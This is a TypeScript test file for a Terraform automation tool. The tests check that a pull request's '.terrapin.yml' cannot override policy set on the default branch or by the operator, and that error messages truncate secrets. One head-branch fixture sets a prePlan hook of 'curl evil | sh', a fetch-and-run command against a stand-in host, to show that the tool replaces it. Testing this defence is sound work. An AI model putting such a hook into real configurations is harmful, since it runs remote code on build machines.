// The description/policy split of `.terrapin.yml`: the head describes, the default branch decides, the
// operator caps. Pure functions over parsed files.
import { describe, expect, test } from 'vitest';
import { parseRepoConfigFile } from '../../../activities/repo-config/index.ts';
import { quote } from '../../../activities/repo-config/errors.ts';
import { capByOperator, combineConfigs, operatorRuleErrors, policyChanges, withPolicyChecks, withRequiredRequirements } from '../../../activities/repo-config/policy.ts';
import { resolveProject } from '../../../activities/repo-config/merge.ts';
import { DEFAULT_OPERATOR_POLICY, effectiveRules } from '../../../activities/operator-policy.ts';
import type { ApplyRequirement, RepoConfig } from '../../../shared/config.ts';

const parse = (text: string, file?: string) => {
  const r = parseRepoConfigFile(text, { cpuCount: 4, file });
  expect(r.errors).toEqual([]);
  return { config: r.config!, positions: r.positions! };
};
const combine = (head: string, reviewed: string): RepoConfig => {
  const r = combineConfigs(parse(head).config, parse(reviewed).config, '.terrapin.yml', parse(head).positions);
  expect(r.errors).toEqual([]);
  return r.config!;
};
const APPROVED: ApplyRequirement = { kind: 'approved', count: 1, users: [], teams: [] };

describe('combineConfigs: description from the head, policy from the default branch', () => {
  const reviewed = [
    'parallelism: 2',
    'permissions:',
    '  approve: { users: [carol] }',
    'defaults:',
    '  applyRequirements: [approved, mergeable]',
    '  hooks: { prePlan: ./reviewed.sh }',
    '  env: { REGION: eu }',
    'projects:',
    '  - name: network',
    '    dir: net',
    '    lock: onApply',
    '    drift: { schedule: "0 * * * *" }',
    '',
  ].join('\n');

  test('every policy key of the head is replaced; description keys stay as the head wrote them', () => {
    const head = [
      'parallelism: 64',
      'allowForks: true',
      'deployOnPush: true',
      'permissions:',
      '  approve: { allowAuthor: true, level: read }',
      'defaults:',
      '  applyRequirements: []',
      '  onFailure: none',
      '  apply: afterMerge',
      '  hooks: { prePlan: "curl evil | sh" }',
      '  env: { REGION: us }',
      'projects:',
      '  - name: network',
      '    dir: network-v2',
      '    workspace: prod',
      '    terraform: tofu',
      '    autoplan: { whenModified: ["*.tf"] }',
      '    lock: "off"',
      '    when: [{ label: x, applyRequirements: [] }]',
      '  - name: app',
      '    dir: app',
      '    dependsOn: [network]',
      '    inputs: { vpc: network.outputs.vpc }',
      '    applyRequirements: []',
      '    env: { LOG: debug }',
      '',
    ].join('\n');
    const c = combine(head, reviewed);
    expect({ parallelism: c.parallelism, allowForks: c.allowForks, deployOnPush: c.deployOnPush, approve: c.permissions.approve }).toEqual({
      parallelism: 2,
      allowForks: false,
      deployOnPush: false,
      approve: { level: 'write', users: ['carol'], teams: [], allowAuthor: false },
    });
    const [network, app] = c.projects;
    expect(network).toMatchObject({
      name: 'network',
      dir: 'network-v2',
      workspace: 'prod',
      terraform: 'tofu',
      autoplan: { enabled: true, whenModified: ['*.tf'] },
      lock: 'onApply',
      when: [],
      drift: { schedule: '0 * * * *', reconcile: false },
      applyRequirements: [APPROVED, { kind: 'mergeable' }],
      hooks: { prePlan: ['./reviewed.sh'] },
      env: { REGION: 'eu' },
      onFailure: 'rollback',
      apply: 'beforeMerge',
    });
    expect(app).toMatchObject({ name: 'app', dir: 'app', dependsOn: ['network'], inputs: { vpc: { project: 'network', output: 'vpc' } }, applyRequirements: [APPROVED, { kind: 'mergeable' }], env: { REGION: 'eu' } });
    expect(app!.drift).toBeUndefined();
    expect(c.defaults).toMatchObject({ applyRequirements: [APPROVED, { kind: 'mergeable' }], hooks: { prePlan: ['./reviewed.sh'] }, apply: 'beforeMerge', onFailure: 'rollback' });
  });

  test('a renamed project keeps the rules of its place; a name and a place of two different reviewed projects is an error', () => {
    const twoProjects = 'projects:\n  - name: prod\n    dir: prod\n    applyRequirements: [{ approved: { count: 2 } }]\n  - name: dev\n    dir: dev\n    applyRequirements: []\n';
    const renamed = combine('projects:\n  - name: production\n    dir: prod\n', twoProjects);
    expect(renamed.projects[0]!.applyRequirements).toEqual([{ kind: 'approved', count: 2, users: [], teams: [] }]);
    const swapped = 'projects:\n  - name: dev\n    dir: prod\n  - name: prod\n    dir: dev\n';
    const r = combineConfigs(parse(swapped).config, parse(twoProjects).config, '.terrapin.yml', parse(swapped).positions);
    expect(r.config).toBeUndefined();
    expect(r.errors.map((e) => `${e.line}:${e.column}: ${e.path}: ${e.message}`)).toEqual([
      '2:11: projects[0].name: project "dev" is at dir "prod" (workspace "default"), which the default branch calls "prod"; a project keeps its name or its place, not both changed at once',
      '4:11: projects[1].name: project "prod" is at dir "dev" (workspace "default"), which the default branch calls "dev"; a project keeps its name or its place, not both changed at once',
    ]);
  });

  test('detected projects (no project list) get the default branch defaults', () => {
    const c = combine('defaults:\n  applyRequirements: []\n  workspace: staging\n', 'defaults:\n  applyRequirements: [undiverged]\n');
    expect(c.projectsListed).toBe(false);
    expect(c.defaults).toMatchObject({ workspace: 'staging', applyRequirements: [{ kind: 'undiverged' }] });
  });
});

describe('policyChanges: what takes effect after merge', () => {
  test('none for a head that only describes', () => {
    const reviewed = 'defaults:\n  applyRequirements: [approved]\nprojects:\n  - name: a\n    dir: a\n';
    expect(policyChanges(parse('projects:\n  - name: a\n    dir: a-moved\n  - name: b\n    dir: b\n').config, parse(reviewed).config)).toEqual([]);
  });

  test('top-level keys, defaults keys, and per-project keys not already explained by a changed default', () => {
    const reviewed = 'projects:\n  - name: app\n    dir: app\n  - name: db\n    dir: db\n    lock: onApply\n';
    const head = [
      'permissions:',
      '  apply: { level: admin }',
      'allowForks: true',
      'defaults:',
      '  applyRequirements: []',
      'projects:',
      '  - name: app',
      '    dir: app',
      '    hooks: { preApply: ./x.sh }',
      '  - name: db',
      '    dir: db',
      '  - name: new',
      '    dir: new',
      '    env: { A: b }',
      '',
    ].join('\n');
    expect(policyChanges(parse(head).config, parse(reviewed).config)).toEqual([
      'permissions',
      'allowForks',
      'defaults.applyRequirements',
      'projects[app].hooks',
      'projects[db].lock',
      'projects[new].env',
    ]);
  });
});

describe('operator requirements', () => {
  test('added unless already covered: approved with a count ≥ 1 satisfies approved', () => {
    const two: ApplyRequirement = { kind: 'approved', count: 2, users: [], teams: [] };
    expect(withRequiredRequirements([], [APPROVED])).toEqual([APPROVED]);
    expect(withRequiredRequirements([two], [APPROVED])).toEqual([two]);
    expect(withRequiredRequirements([APPROVED], [two])).toEqual([APPROVED, two]);
    expect(withRequiredRequirements([{ kind: 'mergeable' }], [APPROVED, { kind: 'mergeable' }])).toEqual([{ kind: 'mergeable' }, APPROVED]);
    const sre: ApplyRequirement = { kind: 'approved', count: 1, users: [], teams: ['acme/sre'] };
    expect(withRequiredRequirements([APPROVED], [sre])).toEqual([APPROVED, sre]);
    expect(withRequiredRequirements([{ ...sre, count: 3 }], [sre])).toEqual([{ ...sre, count: 3 }]);
    expect(withRequiredRequirements([{ kind: 'destroyNeeds', approvals: 1 }], [{ kind: 'destroyNeeds', approvals: 2 }])).toEqual([
      { kind: 'destroyNeeds', approvals: 1 },
      { kind: 'destroyNeeds', approvals: 2 },
    ]);
  });

  test('they survive `when` rules, which replace a project’s requirements', () => {
    const config = parse('defaults:\n  applyRequirements: []\n  when:\n    - label: yolo\n      applyRequirements: []\n').config;
    const capped = capByOperator(config, effectiveRules(DEFAULT_OPERATOR_POLICY, 'a/b'));
    const project = { name: 'x', dir: '.', ...capped.defaults };
    expect(project.applyRequirements).toEqual([APPROVED]);
    expect(resolveProject(project, { baseBranch: 'main', labels: ['yolo'] }).applyRequirements).toEqual([APPROVED]);
  });

  test('forks only when the operator allows them; parallelism capped', () => {
    const config = parse('allowForks: true\nparallelism: 16\n').config;
    expect(capByOperator(config, effectiveRules(DEFAULT_OPERATOR_POLICY, 'a/b'))).toMatchObject({ allowForks: false, parallelism: 16 });
    const open = effectiveRules({ ...DEFAULT_OPERATOR_POLICY, repositories: [{ match: ['a/b'], allowForks: true, maxParallelism: 3 }] }, 'a/b');
    expect(capByOperator(config, open)).toMatchObject({ allowForks: true, parallelism: 3 });
  });
});

describe('operatorRuleErrors: what the default branch may not set', () => {
  const rules = (rule: Omit<Parameters<typeof effectiveRules>[0]['repositories'][number], 'match'>) =>
    effectiveRules({ ...DEFAULT_OPERATOR_POLICY, repositories: [{ match: ['acme/*'], ...rule }] }, 'acme/infra');
  const text = [
    'allowForks: true',
    'defaults:',
    '  hooks: { prePlan: ./a.sh }',
    '  env: { AWS_REGION: eu, SECRET_THING: x, "TF_VAR_x": y }',
    'projects:',
    '  - name: a',
    '    dir: a',
    '    when: [{ label: x }]',
    '    env: { OTHER: z }',
    '',
  ].join('\n');
  const errorsWith = (r: ReturnType<typeof rules>) => operatorRuleErrors(parse(text).positions, 'main@abc1234:.terrapin.yml', r).map((e) => `${e.file}:${e.line}:${e.column}: ${e.path}: ${e.message}`);

  test('the defaults allow everything', () => {
    expect(operatorRuleErrors(parse(text).positions, 'x', effectiveRules(DEFAULT_OPERATOR_POLICY, 'acme/infra'))).toEqual([]);
  });

  test('keys outside allowedPolicyKeys, naming the key and the rule', () => {
    expect(errorsWith(rules({ allowedPolicyKeys: ['env', 'hooks'] }))).toEqual([
      'main@abc1234:.terrapin.yml:1:13: allowForks: the operator does not let this repository set `allowForks` (allowedPolicyKeys; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
      'main@abc1234:.terrapin.yml:8:11: projects[0].when: the operator does not let this repository set `when` (allowedPolicyKeys; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
    ]);
  });

  test('replanOnBaseChange is a policy key: refused outside allowedPolicyKeys', () => {
    const file = 'replanOnBaseChange:\n  concurrency: 4\n';
    const errors = (keys: Parameters<typeof rules>[0]['allowedPolicyKeys']) => operatorRuleErrors(parse(file).positions, 'x', rules({ allowedPolicyKeys: keys })).map((e) => `${e.line}:${e.column}: ${e.path}: ${e.message}`);
    expect(errors(['env'])).toEqual(['2:3: replanOnBaseChange: the operator does not let this repository set `replanOnBaseChange` (allowedPolicyKeys; TERRAPIN_SERVER_CONFIG, rule for "acme/*")']);
    expect(errors(['replanOnBaseChange'])).toEqual([]);
  });

  test('hooks and env turned off; env names outside the allowlist', () => {
    expect(errorsWith(rules({ allowHooks: false, allowEnv: false }))).toEqual([
      'main@abc1234:.terrapin.yml:3:10: defaults.hooks: repository hooks are turned off by the operator (allowHooks: false; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
      'main@abc1234:.terrapin.yml:4:8: defaults.env: repository `env` is turned off by the operator (allowEnv: false; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
      'main@abc1234:.terrapin.yml:9:10: projects[0].env: repository `env` is turned off by the operator (allowEnv: false; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
    ]);
    expect(errorsWith(rules({ envAllowlist: ['AWS_*', 'TF_VAR_*'] }))).toEqual([
      'main@abc1234:.terrapin.yml:4:40: defaults.env.SECRET_THING: "SECRET_THING" is not in the operator\'s env allowlist (`AWS_*`, `TF_VAR_*`; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
      'main@abc1234:.terrapin.yml:9:19: projects[0].env.OTHER: "OTHER" is not in the operator\'s env allowlist (`AWS_*`, `TF_VAR_*`; TERRAPIN_SERVER_CONFIG, rule for "acme/*")',
    ]);
  });
});

describe('lock.ttl, replanOnBaseChange and policies are policy keys', () => {
  const reviewed = 'lock: { ttl: 12h }\nreplanOnBaseChange: { concurrency: 3 }\npolicies: [{ name: tags, run: ./tags.sh }]\n';
  const head = 'replanOnBaseChange: { concurrency: 9 }\npolicies: [{ name: none, run: "true" }]\n';

  test('read from the default branch only, and listed as taking effect after merge', () => {
    const config = combine(head, reviewed);
    expect([config.lockTtl, config.replanConcurrency, config.policies]).toEqual(['12h', 3, [{ name: 'tags', run: './tags.sh', projects: ['*'] }]]);
    expect('lockTtl' in combine(reviewed, 'projects: []\n')).toBe(false);
    expect(policyChanges(parse(head).config, parse(reviewed).config).sort()).toEqual(['lock.ttl', 'policies', 'replanOnBaseChange']);
  });

  test('the operator can keep a repository from setting them', () => {
    const rules = effectiveRules({ ...DEFAULT_OPERATOR_POLICY, repositories: [{ match: ['*/*'], allowedPolicyKeys: ['permissions'] }] }, 'acme/infra');
    expect(operatorRuleErrors(parse(reviewed).positions, 'x', rules).map((e) => e.path)).toEqual(['lock', 'replanOnBaseChange', 'policies']);
  });
});

describe('quote: what a message repeats of a value', () => {
  test('short values whole; long ones cut at 40 characters; only the first line', () => {
    expect(quote('eu-west-1')).toBe('"eu-west-1"');
    expect(quote('a'.repeat(41))).toBe(`"${'a'.repeat(40)}…"`);
    expect(quote('first\nSECRET second line')).toBe('"first…"');
    expect(quote('tab\there')).toBe('"tab\\there"');
  });

  test('parse errors quote at most that much of a hostile value', () => {
    const secret = `PRIVATE-${'k'.repeat(100)}\nline two`;
    const { errors } = parseRepoConfigFile(`onFailure: ${JSON.stringify(secret)}\n`, { cpuCount: 1 });
    expect(errors.map((e) => e.message)).toEqual([`must be one of "rollback", "none", got "PRIVATE-${'k'.repeat(32)}…"`]);
  });
});

describe('keys from the file in messages', () => {
  test('a long or multi-line key is shown as a short excerpt in the error path', () => {
    const key = `K${'e'.repeat(200)}`;
    const { errors } = parseRepoConfigFile(`${key}: 1\n"line one\\nSECRET": 2\n`, { cpuCount: 1 });
    expect(errors.map((e) => e.path)).toEqual([`["K${'e'.repeat(39)}…"]`, '["line one…"]']);
    expect(JSON.stringify(errors)).not.toContain('SECRET');
  });
});

describe('lock.ttl: a policy key at the top level', () => {
  test('only the default branch\'s copy counts; a change shows as taking effect after merge', () => {
    expect(combine('lock: { ttl: 1m }\n', 'lock: { ttl: 12h }\n').lockTtl).toBe('12h');
    expect(combine('lock: { ttl: 1m }\n', '').lockTtl).toBeUndefined();
    expect(policyChanges(parse('lock: { ttl: 1m }\n').config, parse('lock: { ttl: 12h }\n').config)).toEqual(['lock.ttl']);
    expect(policyChanges(parse('lock: { ttl: 12h }\n').config, parse('lock: { ttl: 12h }\n').config)).toEqual([]);
  });

  test('outside allowedPolicyKeys it is refused like the project key', () => {
    const rules = effectiveRules({ ...DEFAULT_OPERATOR_POLICY, repositories: [{ match: ['acme/*'], allowedPolicyKeys: ['permissions'] }] }, 'acme/infra');
    const errors = operatorRuleErrors(parse('lock:\n  ttl: 12h\n').positions, '.terrapin.yml', rules).map((e) => `${e.path}: ${e.message}`);
    expect(errors).toEqual(['lock: the operator does not let this repository set `lock` (allowedPolicyKeys; TERRAPIN_SERVER_CONFIG, rule for "acme/*")']);
    expect(operatorRuleErrors(parse('lock:\n  ttl: 12h\n').positions, '.terrapin.yml', effectiveRules(DEFAULT_OPERATOR_POLICY, 'acme/infra'))).toEqual([]);
  });
});

describe('policy checks: from the default branch only, and only when the operator allows them', () => {
  const checks = ['policies:', '  - name: no-destroy', '    run: ./policies/no-destroy.sh', '  - name: net-only', '    run: echo net', '    projects: ["net*"]', ''].join('\n');
  const projects = ['projects:', '  - name: network', '    dir: net', '  - name: app', '    dir: app', ''].join('\n');
  const operator = (rule: Record<string, unknown>) => effectiveRules({ ...DEFAULT_OPERATOR_POLICY, repositories: [{ match: ['acme/*'], ...rule }] }, 'acme/infra');
  const operatorCheck = { name: 'checkov', run: 'checkov -f "$PLAN_JSON"', projects: ['*'] };

  test('a name is used once', () => {
    const r = parseRepoConfigFile('policies:\n  - { name: a, run: x }\n  - { name: a, run: y }\n', { cpuCount: 1 });
    expect(r.errors).toEqual([{ file: '.terrapin.yml', line: 3, column: 13, path: 'policies[1].name', message: 'duplicate policy check name "a"' }]);
  });

  test('parsed with `projects` defaulting to every project', () => {
    expect(parse(checks).config.policies).toEqual([
      { name: 'no-destroy', run: './policies/no-destroy.sh', projects: ['*'] },
      { name: 'net-only', run: 'echo net', projects: ['net*'] },
    ]);
  });

  test('a head that drops or weakens a check changes nothing before merge, and says so', () => {
    const head = projects;
    const reviewed = projects + checks;
    expect(combine(head, reviewed).policies).toEqual(parse(checks).config.policies);
    expect(combine(projects + 'policies:\n  - { name: no-destroy, run: "true" }\n', reviewed).policies.map((c) => c.run)).toEqual(['./policies/no-destroy.sh', 'echo net']);
    expect(policyChanges(parse(head).config, parse(reviewed).config)).toEqual(['policies']);
  });

  test("the repository's checks are an error unless the operator allows them; the operator's always run, first", () => {
    const { positions } = parse(checks);
    expect(operatorRuleErrors(positions, '.terrapin.yml', operator({}))).toEqual([
      { file: '.terrapin.yml', line: 2, column: 3, path: 'policies', message: expect.stringContaining('allowRepoPolicies: false') },
    ]);
    expect(operatorRuleErrors(positions, '.terrapin.yml', operator({ allowRepoPolicies: true }))).toEqual([]);
    const config = parse(projects + checks).config;
    expect(capByOperator(config, operator({ policies: [operatorCheck] })).policies.map((c) => c.name)).toEqual(['checkov']);
    // A repository check named like the operator's does not replace it.
    const same = parse(projects + 'policies:\n  - { name: checkov, run: "true" }\n  - { name: mine, run: "true" }\n').config;
    expect(capByOperator(same, operator({ policies: [operatorCheck], allowRepoPolicies: true })).policies).toEqual([operatorCheck, { name: 'mine', run: 'true', projects: ['*'] }]);
  });

  test('each project gets the checks whose globs match its name', () => {
    const capped = capByOperator(parse(projects + checks).config, operator({ allowRepoPolicies: true }));
    const named = withPolicyChecks(capped.projects, capped.policies).map((p) => [p.name, (p.policies ?? []).map((c) => c.name)]);
    expect(named).toEqual([['network', ['no-destroy', 'net-only']], ['app', ['no-destroy']]]);
    expect(withPolicyChecks(capped.projects, [])[0]).not.toHaveProperty('policies');
  });
});
